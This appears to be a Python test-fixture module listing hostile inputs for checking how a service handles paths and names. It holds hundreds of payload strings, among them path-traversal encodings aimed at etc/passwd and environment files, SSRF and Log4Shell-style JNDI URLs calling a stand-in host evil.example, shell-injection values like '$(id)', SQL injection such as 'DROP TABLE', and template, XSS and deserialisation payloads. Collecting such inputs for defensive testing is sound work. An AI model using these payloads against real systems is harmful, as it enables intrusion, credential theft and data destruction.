"""Hostile paths and names that have caused security holes: 300 paths out of a directory, and 200 names."""

import itertools

TARGETS = ("etc/passwd", "proc/self/environ", "canary", "state/token", "windows/win.ini")
CLIMBS = (
    "../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "%252e%252e%252f", "..%252f", "..;/",
    "....//", "..../", "..%c0%af", "%c0%ae%c0%ae/", "..%ef%bc%8f", "．．／", "..∕", ".%00./", "..\x00/",
    "./../", "..//", "/../", "..#/", "..?/", "..%23/", "..%3f/", "..%3b/", "%2e./", ".%2e/", "..%u2216",
    "..%255c",
)  # fmt: skip
HOSTILE_PATHS = tuple(climb * depth + end for climb, depth, end in itertools.product(CLIMBS, (1, 8), TARGETS))
"""Encodings of `..`, once and eight times, before files that exist on some machines."""

HOSTILE_NAMES = (
    # absolute paths, paths of other systems, other schemes
    "/etc/passwd", "//etc/passwd", "///etc/passwd", "\\\\host\\share", "C:\\boot.ini", "c:/boot.ini",
    "~/.ssh/id_rsa", "~root", "file:///etc/passwd", "file://localhost/etc/passwd",
    "http://169.254.169.254/latest/meta-data", "http://127.0.0.1:1/", "https://evil.example/model",
    "ftp://evil.example/x", "gopher://127.0.0.1:6379/_FLUSHALL", "s3://bucket/key", "gs://bucket/key",
    "hf://datasets/x/y", "dict://127.0.0.1:11211/", "ldap://evil.example/x", "jar:http://evil.example!/",
    "http://[::1]:1/", "http://0x7f000001:1/", "http://2130706433:1/", "//evil.example/x",
    "http:evil.example", "memory://x", "zip://a::b", "github://x:y@/", "ssh://evil.example/x",
    "smb://evil.example/x", "redis://127.0.0.1:6379", "unix:///var/run/docker.sock",
    "sqlite:////etc/passwd", "postgresql://db/x", "\\\\.\\C:",
    # existing files, and devices
    "pytorch_model.bin", "model.pkl", "model.pt", "evil.py", "config.json", ".env", ".git/config",
    ".ssh/authorized_keys", "grpolab.db", "token", "viewer-token", "run/valkey.sock", "logs/service.log",
    "used-links", "state/token", "../token", "/dev/stdin", "/dev/fd/0", "/dev/zero", "/dev/random",
    "/proc/self/fd/3", "/proc/1/environ", "/sys/kernel", "/tmp", "/var/run/docker.sock", "con", "nul",
    "aux", "CON.txt", "name::$DATA", "backend/service/main.py", "requirements.lock",
    # almost a name
    ".", "..", "...", "/", "\\", "", " ", "-", "--help", "-rf", "*", "?", "[a]", "{a,b}", "name.",
    "name ", "a" * 300, "a/" * 200, "ä" * 150, "tiny/../../../etc", "tiny/..", "./tiny", "tiny/",
    "tiny//", "tiny\\..", "tiny%2f..", "tiny;x", "tiny#x", "tiny?x", "owner/name/extra", "owner//name",
    "-owner/name", "owner/-name", ".owner/name", "owner/.name", "owner/name\n", "../models/tiny",
    "models/../tiny", "datasets--x--y", "refs/convert/parquet", "main@{upstream}", "HEAD~1", "-b",
    "tiny,tiny", "a,b,c", ",", "tiny\ttiny", "TINY", "tiny_moe/../tiny", "..tiny", "tiny..", "t/../../t",
    # shells, expressions, queries, pages
    "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "${HOME}", "%HOME%", "__proto__", "constructor",
    "__class__", "__import__('os')", "os.system", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{0.__class__}", "%s%s%n", "%(x)s", "' OR 1=1 --", "'; DROP TABLE run; --", '" OR ""="',
    "1;SELECT pg_sleep(9)", "1 UNION SELECT 1", "\\'", "%", "_", "%%", "<script>alert(1)</script>",
    "javascript:alert(1)", "data:text/html,x", "onerror=", "&lt;", "&#x2e;&#x2e;/",
    "!!python/object/apply:os.system", "c__builtin__\neval\n", "\x80\x04\x95", "rO0ABXNy",
    "${jndi:ldap://evil.example/x}",
    # unusual characters and numbers
    "\n", "\r\nSet-Cookie: a=b", "\t", "\x1b[2J", "\x7f", "\x00", "a\x00b", "\u202egnp.exe", "\u200b",
    "\ufeff", "e\u0301", "．．", "／", "\ud7ff", "\U0001f600", "ﬁ", "İ", "ß", "\u2028", "\u0085", "\ufffe",
    "true", "null", "NaN", "Infinity", "1e999", "0x10", "9" * 40, "-0", "1_0", "0.1e-400", "1,5", "१",
    "Ⅷ", "0b1", "1e", "+1", "٣", "２", "½",
)  # fmt: skip
"""Names that could be interpreted as something else."""
